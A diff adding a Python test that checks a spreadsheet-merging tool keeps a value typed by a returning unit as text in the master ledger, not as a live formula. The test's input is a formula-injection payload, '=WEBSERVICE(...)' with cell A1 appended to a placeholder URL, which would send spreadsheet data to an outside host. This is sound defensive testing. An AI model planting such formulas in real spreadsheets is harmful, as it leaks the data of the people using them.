@@ -153,3 +153,27 @@ def test_suggestions_work_without_rapidfuzz(monkeypatch):
     from zoufang import roster
     monkeypatch.setattr(roster, "process", None)
     assert roster._nearest("张为国", ["张卫国", "李四"]) == "张卫国"
+
+
+def test_text_a_unit_typed_reaches_the_open_master_as_text_never_a_formula(clean_demo, tmp_path, lo_clerk):
+    """Through the remote engine, whose double parses written values as Excel does; the return is an .ods."""
+    _, src = clean_demo
+    path = tmp_path / "台账.xlsx"
+    shutil.copy(src, path)
+    issued = {i.unit: i.path for i in issue(path, tmp_path / "out")}
+    inbox = tmp_path / "回收"
+    inbox.mkdir()
+    formula = '=WEBSERVICE("http://example.invalid/?"&A1)'
+    lo_clerk([{"src": str(issued["市图书馆"]), "dst": str(inbox / "市图书馆.ods"), "edits": [
+        {"op": "set", "sheet": "走访记录", "header": "地址", "row": 2, "value": {"text": formula}},
+        {"op": "set", "sheet": "走访记录", "header": "备注", "row": 2, "value": {"text": "0013900000000"}}]}])
+    rid = read_campaign(issued["市图书馆"])["visits"].frame["record_id"].iloc[0]
+    message, _ = run(path, binding.collect_returns)
+    assert "合并 1" in message, message
+    wb = openpyxl.load_workbook(path)
+    ws = wb[schema.VISITS.name]
+    headers = {c.value: c.column for c in ws[1]}
+    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, headers["记录编号"]).value == rid)
+    address, remark = ws.cell(row, headers["地址"]), ws.cell(row, headers["备注"])
+    assert (address.value, address.data_type) == (formula, "s")
+    assert (remark.value, remark.data_type) == ("0013900000000", "s")
